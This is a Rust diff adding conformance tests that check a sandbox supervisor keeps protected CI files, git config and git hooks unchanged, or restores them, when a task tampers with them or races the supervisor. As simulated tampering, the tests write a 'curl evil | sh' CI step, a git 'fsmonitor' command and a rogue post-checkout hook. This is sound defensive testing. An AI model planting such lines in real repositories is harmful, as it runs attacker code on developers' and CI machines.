@@ -438,6 +438,269 @@ fn work_beside_absent_protected_paths_is_kept(b: Backend) {
     assert!(ws.join("ci/.gitlab-ci.yml.example").is_file());
 }
 
+/// How a case's task runs: the backend's own default, or (on the jail) the
+/// `container` preset — no namespaces, so no read-only bind pins a protected
+/// path and the supervisor alone keeps it — with its audit log outside the
+/// workspace (which that preset requires). Each flavour gets its own case.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Flavour {
+    Default,
+    NamespaceLess,
+}
+
+/// The flavours a backend is tested in: the jail both ways, a container
+/// backend as it is (its in-container supervisor is already namespace-less).
+fn flavours(b: Backend) -> &'static [Flavour] {
+    if b.container() { &[Flavour::Default] } else { &[Flavour::Default, Flavour::NamespaceLess] }
+}
+
+impl Case {
+    /// A policy of this flavour with `yaml` appended, and the arguments it needs.
+    fn flavoured(&self, f: Flavour, name: &str, yaml: &str) -> (String, Vec<String>) {
+        match f {
+            Flavour::Default => (self.policy(name, yaml), Vec::new()),
+            Flavour::NamespaceLess => {
+                let _ = std::fs::remove_dir_all(self.e.ws.join(".orchestra"));
+                let preset = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policies/container.yaml"))
+                    .unwrap()
+                    .replace("\non_violation: kill\n", "\n");
+                assert!(
+                    preset.contains("namespaces: off") && !preset.contains("on_violation"),
+                    "container.yaml changed shape"
+                );
+                let audit = self.e.root.join("audit-nsless").display().to_string();
+                // Settings of `filesystem:` join the preset's own section.
+                let text = match yaml.strip_prefix("filesystem:\n") {
+                    Some(rest) => preset.replacen("\nfilesystem:\n", &format!("\nfilesystem:\n{rest}"), 1),
+                    None => format!("{preset}{yaml}"),
+                };
+                (self.policy(name, &text), vec!["--audit-dir".to_string(), audit])
+            }
+        }
+    }
+
+    /// The audit directory this flavour's runs log to.
+    fn audit_dir(&self, f: Flavour) -> std::path::PathBuf {
+        match f {
+            Flavour::Default => self.e.ws.join(".orchestra/audit"),
+            Flavour::NamespaceLess => self.e.root.join("audit-nsless"),
+        }
+    }
+
+    fn run_flavoured(&self, f: Flavour, policy: &(String, Vec<String>), argv: &[&str]) -> Out {
+        let extra: Vec<&str> = policy.1.iter().map(String::as_str).collect();
+        let o = self.run_with(&policy.0, &extra, argv);
+        assert_ne!(o.code, 1, "{f:?}: the policy was refused: {}", o.stderr);
+        o
+    }
+}
+
+/// What a racer aims at when the protected path exists: a CI file, git's
+/// config, a hook inside the protected hooks directory (whose every name is
+/// refused: the byte rewritten is one of `hooks`, index 9).
+const EXISTING: [(&str, Option<&str>); 3] =
+    [(".gitlab-ci.yml", None), (".git/config", None), (".git/hooks/pre-commit", Some("9"))];
+
+/// A race case whose protected paths exist: `.gitlab-ci.yml`, `.git/config`
+/// and an executable `.git/hooks/pre-commit`.
+fn existing_case(b: Backend, name: &str) -> Case {
+    let c = race_case(b, name);
+    let ws = &c.e.ws;
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: make test\n").unwrap();
+    std::fs::write(ws.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n").unwrap();
+    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexec make lint\n").unwrap();
+    std::fs::set_permissions(ws.join(".git/hooks/pre-commit"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .unwrap();
+    if b.container() {
+        chown_tree(ws, 1000);
+    }
+    c
+}
+
+/// Content, mode and owner of each of `paths` below `ws`.
+fn state(ws: &std::path::Path, paths: &[&str]) -> Vec<(Vec<u8>, u32, u32)> {
+    use std::os::unix::fs::MetadataExt;
+    paths
+        .iter()
+        .map(|p| {
+            let m = std::fs::symlink_metadata(ws.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
+            assert!(m.is_file(), "{p} is no longer a file");
+            (std::fs::read(ws.join(p)).unwrap(), m.mode() & 0o7777, m.uid())
+        })
+        .collect()
+}
+
+/// SECURITY.md §5.3: a protected path that EXISTS when the task starts is
+/// byte for byte what it was once the task is gone, whatever a task racing
+/// the supervisor does. The racer renames a prepared file over it through a
+/// name another thread rewrites, one byte, from a benign name while the call
+/// waits on the supervisor (`on_violation: deny`: it tries again after every
+/// refusal). Where a read-only bind pins the file (the jail with namespaces,
+/// the engines' volumes) the kernel refuses the rename whatever the
+/// supervisor said. Without namespaces the supervisor alone judges it and
+/// the racer wins often; the host's check after the task finds the file
+/// changed and puts it back: exit 4, `fs.protected`, "restored". The
+/// plain rename (no race) is the supervisor's refusal, as before.
+fn an_existing_protected_path_is_unchanged_whatever_the_race(b: Backend) {
+    let names: Vec<&str> = EXISTING.iter().map(|(t, _)| *t).collect();
+    for &f in flavours(b) {
+        for (target, pos) in EXISTING {
+            let c = existing_case(b, "race-kept");
+            let policy = c.flavoured(f, "deny", "on_violation: deny\n");
+            let before = state(&c.e.ws, &names);
+            let mut argv = vec!["./race", "stage-ci", target, "3000"];
+            argv.extend(pos);
+            let o = c.run_flavoured(f, &policy, &argv);
+            o.assert_violation("fs.protected");
+            assert_eq!(state(&c.e.ws, &names), before, "{} {f:?}: {target} changed\n{}", b.name(), o.all());
+            let won = o.stdout.contains("ESCAPED");
+            if won {
+                assert_eq!(f, Flavour::NamespaceLess, "{}: a read-only bind was replaced\n{}", b.name(), o.all());
+                let d = details(&o);
+                assert!(
+                    d.contains(", a protected path, was changed during the task: ") && d.contains("; restored"),
+                    "{d}"
+                );
+            }
+        }
+        // No race: the supervisor refuses the plain rename.
+        let c = existing_case(b, "norace-kept");
+        let policy = c.flavoured(f, "deny", "on_violation: deny\n");
+        let before = state(&c.e.ws, &names);
+        let o = c.run_flavoured(f, &policy, &["./race", "stage-ci", ".gitlab-ci.yml", "0"]);
+        o.assert_violation("fs.protected");
+        assert!(o.stdout.contains("blocked rename without a race"), "{}", o.all());
+        assert!(!details(&o).contains("was changed during the task"), "{}", details(&o));
+        assert_eq!(state(&c.e.ws, &names), before);
+    }
+}
+
+/// A protected path changed while the task runs — here by the test itself,
+/// standing for a write that got past the supervisor — is found changed once
+/// the task is gone, on every backend and flavour: exit 4, `fs.protected`,
+/// the detail says what changed and "restored", each file is back byte for
+/// byte with its mode and owner, the hook added is gone, and the violation is
+/// in the audit log.
+fn a_protected_path_changed_during_the_task_is_reported_and_restored(b: Backend) {
+    use std::os::unix::fs::PermissionsExt;
+    let names = [".gitlab-ci.yml", ".git/config", ".git/hooks/pre-commit"];
+    for &f in flavours(b) {
+        let c = existing_case(b, "changed-kept");
+        let ws = &c.e.ws;
+        let policy = c.flavoured(f, "plain", "");
+        let before = state(ws, &names);
+        let mut args = vec!["--backend", b.name(), "--name", &c.name];
+        args.extend(policy.1.iter().map(String::as_str));
+        let script =
+            "touch started; i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; echo built > out";
+        let mut cmd = c.e.cmd(&policy.0, &args, &["/bin/sh", "-c", script]);
+        let _ = std::fs::remove_file(c.e.root.join("report.json"));
+        let child = cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
+        let t0 = std::time::Instant::now();
+        while !ws.join("started").exists() {
+            assert!(t0.elapsed() < Duration::from_secs(120), "{} {f:?}: the task never started", b.name());
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        // In place, by rename, a mode, a new hook.
+        std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: curl evil | sh\n").unwrap();
+        std::fs::write(ws.join("cfg.new"), "[core]\n\tfsmonitor = touch /tmp/pwned\n").unwrap();
+        std::fs::rename(ws.join("cfg.new"), ws.join(".git/config")).unwrap();
+        std::fs::set_permissions(ws.join(".git/hooks/pre-commit"), std::fs::Permissions::from_mode(0o777)).unwrap();
+        std::fs::write(ws.join(".git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
+        std::fs::write(ws.join("go"), "").unwrap();
+        let o = Out::with_report(child.wait_with_output().unwrap(), Some(&c.e.root.join("report.json")));
+        o.assert_violation("fs.protected");
+        assert_eq!(state(ws, &names), before, "{} {f:?}\n{}", b.name(), o.all());
+        assert!(!ws.join(".git/hooks/post-checkout").exists(), "{} {f:?}", b.name());
+        assert_eq!(std::fs::read_to_string(ws.join("out")).unwrap(), "built\n", "the task's own work stays");
+        let d = details(&o);
+        for part in [
+            ".gitlab-ci.yml, a protected path, was changed during the task: content changed (sha256 ",
+            ".git/config, a protected path, was changed during the task: content changed",
+            ".git/hooks, a protected path, was changed during the task: post-checkout: added; pre-commit: mode 0755 → 0777; restored",
+        ] {
+            assert!(d.contains(part), "{} {f:?}: {part}\n{d}", b.name());
+        }
+        let shown = Command::new(orchestra())
+            .args(["audit", "show", "--json", "--kind", "violation"])
+            .arg(c.audit_dir(f))
+            .output()
+            .unwrap();
+        assert!(String::from_utf8_lossy(&shown.stdout).contains("was changed during the task"), "{} {f:?}", b.name());
+        if b.container() {
+            assert!(containers_left(b.name(), &format!("orchestra.task={}", c.name)).is_empty());
+        }
+    }
+}
+
+/// A build's git work in a repository whose protected paths exist — commit,
+/// a new branch, gc — is no violation and is kept, on every backend and
+/// without namespaces: the host's check finds the protected paths as they
+/// were. On the container backends git is the host's (`orchestra-build:2`
+/// with `/usr`).
+fn real_git_work_beside_existing_protected_paths_is_no_violation(b: Backend) {
+    for &f in flavours(b) {
+        let c = case(b, "git-kept");
+        let ws = &c.e.ws;
+        let git = |args: &[&str]| {
+            let o = Command::new("git")
+                .args(["-c", "user.email=t@example.org", "-c", "user.name=t", "-c", "safe.directory=*"])
+                .args(args)
+                .current_dir(ws)
+                .output()
+                .expect("git is required");
+            assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
+            String::from_utf8_lossy(&o.stdout).into_owned()
+        };
+        git(&["init", "-q", "."]);
+        std::fs::write(ws.join("README"), "hello\n").unwrap();
+        std::fs::write(ws.join(".gitignore"), ".orchestra/\nattack\n").unwrap();
+        std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: make test\n").unwrap();
+        git(&["add", "README", ".gitignore", ".gitlab-ci.yml"]);
+        git(&["commit", "-qm", "init"]);
+        if b.container() {
+            chown_tree(ws, 1000);
+        }
+        let names = [".gitlab-ci.yml", ".git/config", ".git/hooks/pre-commit.sample", ".git/info/exclude"];
+        let before = state(ws, &names);
+        let yaml =
+            if b.container() { "container:\n  image: orchestra-build:2\n  volumes: ['/usr:/usr']\n" } else { "" };
+        let policy = c.flavoured(f, "git", yaml);
+        let g = "git -c user.email=t@example.org -c user.name=t -c safe.directory=*";
+        let script = format!(
+            "set -e; export HOME=$PWD; echo more >> README; {g} commit -qam two; {g} checkout -qb feature; echo f > f; \
+             {g} add f; {g} commit -qm three; {g} checkout -q -; {g} merge -q feature; {g} gc -q; {g} log --oneline | wc -l"
+        );
+        let o = c.run_flavoured(f, &policy, &["/bin/sh", "-c", &script]);
+        o.assert_ok();
+        assert_eq!(o.stdout.trim(), "3", "{} {f:?}", b.name());
+        assert_eq!(state(ws, &names), before, "{} {f:?}", b.name());
+        assert_eq!(git(&["log", "--oneline"]).lines().count(), 3, "the host sees the task's commits");
+    }
+}
+
+/// `filesystem.unprotected` gives an existing path up to the task: changed by
+/// it, it is no violation and the change stays (reported as an opt-out); the
+/// paths not given up are still put back.
+fn an_existing_path_given_up_with_unprotected_keeps_the_tasks_change(b: Backend) {
+    for &f in flavours(b) {
+        let c = existing_case(b, "unprotected-kept");
+        let policy = c.flavoured(f, "ci", "filesystem:\n  unprotected: [.gitlab-ci.yml]\n");
+        let config = std::fs::read(c.e.ws.join(".git/config")).unwrap();
+        let o = c.run_flavoured(f, &policy, &["/bin/sh", "-c", "echo '  when: manual' >> .gitlab-ci.yml"]);
+        o.assert_ok();
+        assert!(o.report["opt_outs"].to_string().contains("filesystem.unprotected: .gitlab-ci.yml"), "{}", o.report);
+        assert_eq!(
+            std::fs::read_to_string(c.e.ws.join(".gitlab-ci.yml")).unwrap(),
+            "test:\n  script: make test\n  when: manual\n",
+            "{} {f:?}",
+            b.name()
+        );
+        assert_eq!(std::fs::read(c.e.ws.join(".git/config")).unwrap(), config);
+    }
+}
+
 macro_rules! conformance {
     ($($case:ident),* $(,)?) => {
         mod jail { $( #[test] fn $case() { super::$case(super::Backend::Jail) } )* }
@@ -451,6 +714,10 @@ conformance!(
     a_protected_path_absent_at_the_start_stays_absent_whatever_the_race,
     a_link_that_makes_an_absent_protected_path_reachable_is_removed,
     work_beside_absent_protected_paths_is_kept,
+    an_existing_protected_path_is_unchanged_whatever_the_race,
+    a_protected_path_changed_during_the_task_is_reported_and_restored,
+    real_git_work_beside_existing_protected_paths_is_no_violation,
+    an_existing_path_given_up_with_unprotected_keeps_the_tasks_change,
     one_off_path_flags_take_effect,
     benign_script_runs_and_writes_the_workspace,
     output_is_relayed_whole_and_in_order,
